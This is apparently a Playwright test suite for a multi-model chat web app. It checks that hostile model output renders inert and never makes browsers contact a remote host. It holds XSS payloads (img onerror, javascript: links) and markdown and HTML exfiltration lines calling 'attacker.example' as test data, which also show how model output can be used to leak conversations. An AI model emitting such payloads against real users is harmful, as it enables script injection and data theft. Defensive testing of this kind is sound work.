import { expect, test } from '@playwright/test';
import { fakeProviderControl } from '../fake-openai/control';
import { cell, choosePreset, expectRunStatus, runPrompt, shareLinkOf } from './helpers';
import { FAKE_PROVIDER_URL } from './ports';
import { expectInert, failOnDialog, HOSTILE_ANSWER, watchLiveDangers } from './xss';

const { control } = fakeProviderControl(FAKE_PROVIDER_URL);

const HOSTILE_PROMPT = 'Say something dangerous. <img src=x onerror="window.__xss=\'prompt\'"> [p](javascript:window.__xss=1)';

test('hostile model output renders inert in the live grid, the final answer, the share page and the exports', async ({ page, context, request }) => {
  await control('reset', {});
  await control('models', {
    'fake-small': { text: HOSTILE_ANSWER, tokensPerSecond: 400, chunkSize: 7 },
    // Slow enough that cells and the final answer are seen while they stream.
    'fake-large': { text: HOSTILE_ANSWER, tokensPerSecond: 40, chunkSize: 11 },
  });
  failOnDialog(page);
  await watchLiveDangers(page);
  await page.goto('/');
  await choosePreset(page, 'MoA-Lite (2 layers)');
  await runPrompt(page, HOSTILE_PROMPT);
  await expectRunStatus(page, 'finished');

  // Live: nothing active appeared at any moment while the text streamed in.
  const live = await page.evaluate(() => (window as unknown as { __live: { dangers: string[]; streamedHostile: boolean } }).__live);
  expect(live.streamedHostile, 'hostile text was seen while streaming').toBe(true);
  expect(live.dangers).toEqual([]);

  // Finished: Markdown rendered, raw HTML dropped, unsafe links blank.
  for (let i = 1; i <= 6; i++) await expectInert(page, cell(page, 1, i).getByTestId('agent-text'));
  await expectInert(page, cell(page, 2, 1).getByTestId('agent-text'));
  await expectInert(page, page.getByTestId('final-text'));
  await expect(page.getByTestId('final-text').locator('strong')).toHaveText('my answer');
  // Links whose URL was unsafe show as text: the safe one is the only link left.
  await expect(page.getByTestId('final-text').locator('a')).toHaveCount(1);
  await expect(page.getByTestId('final-text')).toContainText('markdown js link');
  await expect(page.getByTestId('final-text')).not.toContainText('onerror');
  await page.screenshot({ path: 'test-results/xss-grid.png' });

  // The share page, rendered on the server: the same, and the hostile prompt is plain text.
  const link = await shareLinkOf(page);
  const shared = await context.newPage();
  failOnDialog(shared);
  await shared.goto(link);
  await expectRunStatus(shared, 'finished');
  for (let i = 1; i <= 6; i++) await expectInert(shared, cell(shared, 1, i).getByTestId('agent-text'));
  await expectInert(shared, cell(shared, 2, 1).getByTestId('agent-text'));
  await expectInert(shared, shared.getByTestId('final-text'));
  await expect(shared.getByTestId('shared-prompt')).toHaveText(HOSTILE_PROMPT);
  expect(await shared.getByTestId('shared-prompt').locator('*').count()).toBe(0);
  await expect(shared.locator('meta[name=description]')).toHaveAttribute('content', /Final answer: Here is \*\*my answer\*\*/);
  expect(await shared.evaluate(() => (window as unknown as { __xss?: string }).__xss)).toBeUndefined();
  await shared.screenshot({ path: 'test-results/xss-share.png' });

  // Exports: downloads that no browser renders as HTML, and Markdown that no renderer turns into markup.
  const id = link.split('/r/')[1];
  for (const format of ['md', 'json']) {
    const response = await request.get(`/api/runs/${id}/export?format=${format}`);
    expect(response.status()).toBe(200);
    expect(response.headers()['content-disposition']).toMatch(/^attachment;/);
    expect(response.headers()['x-content-type-options']).toBe('nosniff');
    expect(response.headers()['content-security-policy']).toContain('sandbox');
  }
  const md = await (await request.get(`/api/runs/${id}/export?format=md`)).text();
  expect(md).toContain('Here is **my answer**, with [a safe link](https://example.com/ok).');
  expect(md).toContain('\\<script>window.\\_\\_xss = "script"\\</script>');
  expect(md).not.toMatch(/(?<!\\)<(script|img|svg|iframe|a\s|div|style)/i);
  expect(md).not.toMatch(/\]\(\s*(javascript|data|vbscript):/i);
  expect(md.match(/The end\./g)).toHaveLength(8); // every answer is there
});

/** Output that tries to make every reader's browser call home: remote images, frames, script links. */
const EXFIL_ANSWER = [
  'Summary: ![chart](https://attacker.example/leak.png?q=the-whole-conversation)',
  '![ref image][pixel]',
  '<img src="https://attacker.example/raw.png">',
  '<iframe src="https://attacker.example/frame"></iframe>',
  '[click me](javascript:fetch("https://attacker.example/js"))',
  '[pixel]: https://attacker.example/ref.png',
  'The end.',
].join('\n\n');

test('model output never makes the browser request a remote host, live or shared; the CSP holds and the app trips none of it', async ({ page, context }) => {
  await control('reset', {});
  await control('models', { 'fake-small': { text: EXFIL_ANSWER, tokensPerSecond: 400, chunkSize: 9 }, 'fake-large': { text: EXFIL_ANSWER, tokensPerSecond: 400, chunkSize: 9 } });
  // Any request that reaches for the attacker's host is recorded (and answered, so nothing hangs).
  const remote: string[] = [];
  await context.route(/attacker\.example/, (route) => {
    remote.push(route.request().url());
    return route.fulfill({ status: 204 });
  });
  context.on('request', (request) => void (/attacker\.example/.test(request.url()) && remote.push(request.url())));
  // CSP violations, reported by the page itself and in the console.
  const violations: string[] = [];
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as unknown as { __csp?: string[] }).__csp = [...((window as unknown as { __csp?: string[] }).__csp ?? []), `${e.violatedDirective} ${e.blockedURI}`];
    });
  });
  const watch = (p: typeof page) => p.on('console', (m) => void (/Content Security Policy/i.test(m.text()) && violations.push(m.text())));
  watch(page);

  await page.goto('/');
  const csp = (await page.request.get('/')).headers()['content-security-policy'];
  expect(csp).toContain("img-src 'self' data: blob:");
  await choosePreset(page, 'MoA-Lite (2 layers)');
  await runPrompt(page, 'Describe the chart.');
  await expectRunStatus(page, 'finished');
  const final = page.getByTestId('final-text');
  // The remote image is a link that says where it points, not an image.
  await expect(final.getByTestId('image-link').first()).toContainText('chart (attacker.example)');
  expect(await final.locator('img, iframe').count()).toBe(0);
  await expect(cell(page, 1, 1).getByTestId('image-link').first()).toBeVisible();
  // The metrics charts render under the policy too.
  await page.getByTestId('run-metrics').scrollIntoViewIfNeeded();
  await expect(page.locator('[data-testid=chart-timeline] svg').first()).toBeVisible();

  const shared = await context.newPage();
  watch(shared);
  await shared.goto(await shareLinkOf(page));
  await expectRunStatus(shared, 'finished');
  await expect(shared.getByTestId('final-text').getByTestId('image-link').first()).toBeVisible();

  expect(remote).toEqual([]);
  for (const p of [page, shared]) expect(await p.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? [])).toEqual([]);
  expect(violations).toEqual([]);
});
